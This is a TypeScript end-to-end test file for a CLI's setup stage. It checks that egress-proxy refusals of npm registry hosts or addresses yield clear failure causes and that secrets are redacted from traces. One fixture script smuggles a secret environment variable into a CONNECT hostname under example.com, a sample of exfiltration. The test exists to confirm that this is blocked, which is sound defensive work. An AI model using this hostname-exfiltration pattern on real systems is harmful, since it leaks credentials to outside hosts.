// End to end: a setup whose download the egress proxy refuses ends as setup_failed with a cause
// line that names the refusal and the setting that allows it, not only npm's "403 Forbidden". A
// registry host off the allowlist (any machine; the refusal comes before any lookup), and the npm
// registry resolving to an address the proxy refuses (where this machine's DNS answers with one).
import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import { runCli } from "./helpers/cli.ts";
import { makeRepo } from "./helpers/git-fixture.ts";
import { baseArgs, setUpScriptedRun } from "./helpers/scripted-run.ts";
import { canary, canaryVariable, registryReach } from "./helpers/setup-project.ts";

const registry = await registryReach();
const [refusedRange] = registry.allowAddresses;
const addressSkip = refusedRange
  ? false
  : "registry.npmjs.org does not resolve to an address the egress proxy refuses here";
if (addressSkip) console.log(`# skipping the refused-address run: ${addressSkip}`);

interface TraceEvent {
  type: string;
  data: Record<string, unknown>;
}

/** A Node project with one dependency and no lockfile (npm install), its registry set by `.npmrc`. */
function makeProject(npmrc?: string): string {
  return makeRepo({
    "package.json": JSON.stringify({ name: "egress", private: true, dependencies: { "is-number": "7.0.0" } }),
    ...(npmrc ? { ".npmrc": npmrc } : {}),
  });
}

describe("a setup download the egress proxy refuses", () => {
  const cleanups: (() => Promise<void>)[] = [];
  after(async () => {
    for (const cleanup of cleanups) await cleanup();
  });

  async function runOn(repo: string, allowHosts?: string[]) {
    // No sandbox.egressAllowAddresses: the proxy's own rules decide.
    const setup = await setUpScriptedRun({ turns: [] }, "anthropic", {
      setup: { secretEnv: [canaryVariable], ...(allowHosts ? { allowHosts } : {}) },
    });
    cleanups.push(() => setup.server.close());
    const result = await runCli([...baseArgs(setup), "run", "--repo", repo, "--task", "x", "--json"], {
      env: { ...setup.env, [canaryVariable]: canary },
      timeoutMs: 300_000,
    });
    const report = JSON.parse(result.stdout || "{}");
    assert.equal(result.code, 16, `${result.stdout}\n${result.stderr}`);
    assert.equal(report.outcome, "setup_failed");
    assert.equal(report.detail.includes("\n"), false);
    assert.equal(setup.server.requests.length, 0, "no model request was made");
    const shown = await runCli([...baseArgs(setup), "show", report.runId, "--json"], { env: setup.env });
    const events = (JSON.parse(shown.stdout) as { events: TraceEvent[] }).events;
    const setupEnd = events.find((event) => event.type === "setup-end")!;
    assert.equal(setupEnd.data.cause, report.detail, "the trace's setup-end says the same");
    return { setup, detail: report.detail as string, events };
  }

  test("a registry host off the allowlist: the cause names the host and setup.allowHosts, then npm's line", async () => {
    const repo = makeProject("registry=https://registry.example.com/\n");
    const { setup, detail } = await runOn(repo);
    assert.match(
      detail,
      /^setup's egress proxy refused registry\.example\.com: not on setup's allowlist \(if you trust it, add it to setup\.allowHosts in the repository's \.slipway\.yml.*\); then npm install failed \(exit 1\): npm error .*403/,
    );
    // `slipway setup --repo` prints the same cause.
    const alone = await runCli([...baseArgs(setup), "setup", "--repo", repo], {
      env: setup.env,
      timeoutMs: 300_000,
    });
    assert.equal(alone.code, 16, `${alone.stdout}\n${alone.stderr}`);
    assert.match(
      alone.stdout,
      /setup failed: setup's egress proxy refused registry\.example\.com: not on setup's allowlist/,
    );
  });

  test("a secret a setup script puts into a refused host name is in no trace event and not in the cause", async () => {
    // The script asks the proxy for a tunnel to <secret>.example.com (off the allowlist), then fails.
    const leak = `import http from "node:http";
const proxy = new URL(process.env.HTTPS_PROXY);
const target = process.env.${canaryVariable} + ".example.com:443";
await new Promise((done) => {
  const request = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target, timeout: 10000 });
  request.on("connect", (response, socket) => { console.error("error: tunnel " + response.statusCode); socket.destroy(); done(); });
  request.on("error", done);
  request.on("timeout", () => { request.destroy(); done(); });
  request.end();
});
process.exit(1);
`;
    const repo = makeRepo({
      "package.json": JSON.stringify({ name: "leak", private: true }),
      ".slipway.yml": "setup:\n  commands: ['node scripts/leak.mjs']\n",
      "scripts/leak.mjs": leak,
    });
    // The platform allows one host (a repository's own hosts are not reached while secrets are
    // handed over), so setup has a proxy to ask.
    const { detail, events } = await runOn(repo, ["allowed.example.com"]);
    assert.match(detail, /^setup's egress proxy refused \*\*\*\.example\.com: not on setup's allowlist/);
    const egress = events.filter((event) => event.type === "setup-egress");
    assert.deepEqual(
      egress.map((event) => event.data.host),
      ["***.example.com"],
    );
    assert.equal(JSON.stringify(events).includes(canary), false);
    assert.equal(detail.includes(canary), false);
  });

  test("the registry resolves to a refused address: the cause names it and sandbox.egressAllowAddresses", {
    skip: addressSkip,
  }, async () => {
    const address = refusedRange!.split("/")[0]!;
    const { detail } = await runOn(makeProject());
    const escaped = address.replace(/[.:]/g, "\\$&");
    assert.match(
      detail,
      new RegExp(
        `^setup's egress proxy refused registry\\.npmjs\\.org: it resolves to ${escaped}, an? [^;]+; if that is your registry or mirror, allow its range with sandbox\\.egressAllowAddresses in slipway\\.yaml \\(e\\.g\\. ${escaped}/(32|128)\\); then npm install failed \\(exit 1\\): npm error .*403`,
      ),
    );
  });
});
